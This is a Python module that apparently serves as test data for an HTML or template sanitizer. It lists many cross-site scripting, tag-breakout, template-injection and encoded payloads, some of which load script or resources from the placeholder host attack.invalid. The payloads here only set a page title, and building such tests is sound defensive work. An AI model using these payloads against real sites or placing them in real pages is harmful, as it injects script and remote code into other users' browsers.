"""Words that would act if a page ever took them for markup, script, style, an address or a template. All are our own.

Each would set the title of the document to `owned`, or ask another host for something.
"""

ACT = "document.title='owned'"
FAR = "//attack.invalid"

MARKUP = (
    f"<script>{ACT}</script>",
    f"<ScRiPt >{ACT}</sCrIpT >",
    f"<script src={FAR}/a.js></script>",
    f"<script/x>{ACT}</script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<img src=x onerror={ACT}>",
    f'<img src="x" onerror="{ACT}">',
    f"<img/src/onerror={ACT}>",
    f"<img src={FAR}/pixel.png>",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:{ACT}\"><text y=20>here</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<body onload={ACT}>",
    f"<video><source onerror={ACT}></video>",
    f"<audio src=x onerror={ACT}></audio>",
    f"<details open ontoggle={ACT}>more</details>",
    f"<input autofocus onfocus={ACT}>",
    f"<select autofocus onfocus={ACT}></select>",
    f"<marquee onstart={ACT}>away</marquee>",
    f"<iframe src=\"javascript:parent.{ACT}\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.{ACT}</script>\"></iframe>",
    f"<object data={FAR}/o></object>",
    f"<embed src={FAR}/e>",
    f"<base href={FAR}/>",
    f"<link rel=stylesheet href={FAR}/s.css>",
    f"<meta http-equiv=refresh content=\"0;url={FAR}/\">",
    f"<style>@import '{FAR}/i.css';</style>",
    f"<div style=\"background:url({FAR}/b.png)\">box</div>",
    f"<form action={FAR}/f><button autofocus onfocus={ACT}>go</button></form>",
    f"<template><img src=x onerror={ACT}></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={ACT}>\">",
    f"<a href=\"javascript:{ACT}\">a link</a>",
    f"<a href=\"java\tscript:{ACT}\">a link with a tab</a>",
    f"<a href=\"data:text/html,<script>{ACT}</script>\">data</a>",
    f"<p onmouseover={ACT}>over</p>",
    f"<x contenteditable onblur={ACT}>",
    f"<button popovertarget=p>p</button><div popover id=p onbeforetoggle={ACT}>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
)  # fmt: skip
LEAVING = (
    f"</p></article></section><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</style></script><script>{ACT}</script>",
    f"--><script>{ACT}</script>",
    f"]]><script>{ACT}</script>",
    f"\"><script>{ACT}</script>",
    f"'><script>{ACT}</script>",
    f"\" onmouseover=\"{ACT}",
    f"' autofocus onfocus='{ACT}",
    f"`onclick={ACT}",
    f"\" style=\"animation:x\" onanimationstart=\"{ACT}",
    f"\"\n onfocus={ACT} autofocus \n\"",
)  # fmt: skip
TEMPLATES = (
    f"${{{ACT}}}",
    "{{ 7 * 7 }}{{ config }}{% raw %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    f"{{{{constructor.constructor(\"{ACT}\")()}}}}",
    f"#{{{ACT}}}",
    f"<%= {ACT} %>",
)  # fmt: skip
ENCODED = (
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&#60;img src=x onerror={ACT}&#62;",
    f"%3Cscript%3E{ACT}%3C/script%3E",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"\u2028<script>{ACT}</script>\u2029",
    f"\ufeff<script>{ACT}</script>",
    f"＜script＞{ACT}＜/script＞",
    f"\u202e<script>{ACT}</script>\u202c",
    f"event: result\ndata: {{\"html\": \"<img src=x onerror={ACT}>\"}}\n\n",
)  # fmt: skip
ATTACKS = (*MARKUP, *LEAVING, *TEMPLATES, *ENCODED)
